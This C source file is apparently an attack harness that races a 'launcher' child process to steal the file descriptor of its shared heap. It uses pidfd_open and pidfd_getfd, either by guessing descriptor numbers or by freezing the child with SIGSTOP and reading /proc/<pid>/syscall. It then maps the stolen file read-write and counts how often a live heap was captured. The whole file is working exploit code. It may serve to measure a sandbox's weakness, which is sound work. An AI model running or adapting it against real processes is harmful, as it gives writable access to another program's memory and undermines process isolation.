/* Root racing a launcher for its heap's descriptor.
 *
 *   steal_heap HOW STARTS PROGRAM ARGUMENTS...
 *
 * PROGRAM is a guardian, whose child becomes the launcher. HOW is what is tried at each of STARTS starts,
 * from the child's birth to its end:
 *
 *   NUMBER   duplicate this descriptor, again and again
 *   blind    duplicate descriptors at random, of all that the heap's may be
 *   stop     stop the child, duplicate what its system call names, let it go on; again and again
 *
 * Printed: starts; starts whose heap was got; starts of which only a heap was got that was dropped; tries.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define MOST 15000
#define FIRST 64
#define SLOTS 16384

static int stolen[MOST], count;
static unsigned long tries;

/* 0 once the process is gone. */
static int duplicate(int pidfd, int number) {
    int got = (int)syscall(438, pidfd, number, 0);
    tries++;
    if (got >= 0) {
        if (count < MOST) stolen[count++] = got; else close(got);
    }
    return got >= 0 || errno != ESRCH;
}

static pid_t child_of(pid_t parent) {
    char path[64], text[64];
    snprintf(path, sizeof path, "/proc/%d/task/%d/children", parent, parent);
    for (;;) {
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) return 0;
        ssize_t n = read(fd, text, sizeof text - 1);
        close(fd);
        if (n > 0) { text[n] = 0; return (pid_t)atoi(text); }
        if (waitid(P_PID, (id_t)parent, &(siginfo_t){0}, WEXITED | WNOHANG | WNOWAIT) < 0) return 0;
        siginfo_t gone = {0};
        if (!waitid(P_PID, (id_t)parent, &gone, WEXITED | WNOHANG | WNOWAIT) && gone.si_pid) return 0;
    }
}

static void step(pid_t pid, int pidfd) {
    char path[64], text[256];
    long number, first, second, third, fourth, fifth;
    snprintf(path, sizeof path, "/proc/%d/syscall", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    for (;;) {
        if (kill(pid, SIGSTOP)) break;
        ssize_t n = 0;
        for (int i = 0; i < 20; i++) {
            n = pread(fd, text, sizeof text - 1, 0);
            if (n <= 0 || strncmp(text, "running", 7)) break;
        }
        if (n <= 0) break;
        text[n] = 0;
        if (sscanf(text, "%ld %lx %lx %lx %lx %lx", &number, &first, &second, &third, &fourth, &fifth) == 6) {
            if (number == SYS_ftruncate && !duplicate(pidfd, (int)first)) break;
            if (number == SYS_mmap && !duplicate(pidfd, (int)fifth)) break;
            if (number == SYS_close && !duplicate(pidfd, (int)first)) break;
        }
        if (kill(pid, SIGCONT)) break;
    }
    kill(pid, SIGCONT);
    close(fd);
}

int main(int argc, char **argv) {
    if (argc < 5) return 2;
    int starts = atoi(argv[2]), used = 0, dropped = 0;
    struct rlimit before, most;
    getrlimit(RLIMIT_NOFILE, &before);
    most = (struct rlimit){before.rlim_max, before.rlim_max};
    if (setrlimit(RLIMIT_NOFILE, &most)) return 3;
    uint64_t random = 88172645463325252UL ^ (uint64_t)getpid();
    for (int i = 0; i < starts; i++) {
        pid_t guardian = fork();
        if (!guardian) {
            int nothing = open("/dev/null", O_RDWR);
            dup2(nothing, 0); dup2(nothing, 1); dup2(nothing, 2);
            if (nothing > 2) close(nothing);
            setrlimit(RLIMIT_NOFILE, &before);
            execv(argv[3], argv + 3);
            _exit(71);
        }
        pid_t child = child_of(guardian);
        int pidfd = child ? (int)syscall(434, child, 0) : -1;
        if (pidfd >= 0 && !strcmp(argv[1], "stop")) step(child, pidfd);
        else if (pidfd >= 0 && !strcmp(argv[1], "blind")) {
            do {
                random ^= random << 13; random ^= random >> 7; random ^= random << 17;
            } while (duplicate(pidfd, FIRST + (int)(random % SLOTS)));
        } else if (pidfd >= 0) while (duplicate(pidfd, atoi(argv[1]))) {}
        waitpid(guardian, NULL, 0);
        int in_use = 0, empty = 0;
        for (int j = 0; j < count; j++) {
            struct stat found;
            if (!fstat(stolen[j], &found) && S_ISREG(found.st_mode) && found.st_size > 1 << 24) {
                uint64_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, stolen[j], 0);
                if (page != MAP_FAILED) {
                    if (*page) in_use = 1; else empty = 1;
                    munmap(page, 4096);
                }
            }
            close(stolen[j]);
        }
        used += in_use;
        dropped += empty && !in_use;
        count = 0;
        if (pidfd >= 0) close(pidfd);
    }
    printf("%d %d %d %lu\n", starts, used, dropped, tries);
    return 0;
}
